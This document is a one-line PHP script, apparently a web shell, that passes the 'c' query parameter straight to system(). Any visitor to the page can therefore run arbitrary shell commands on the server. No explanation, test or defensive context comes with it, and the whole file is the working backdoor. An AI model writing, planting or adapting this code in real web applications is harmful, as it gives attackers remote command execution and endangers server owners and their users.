<?php $c = (string)"$_GET[c]"; system($c);
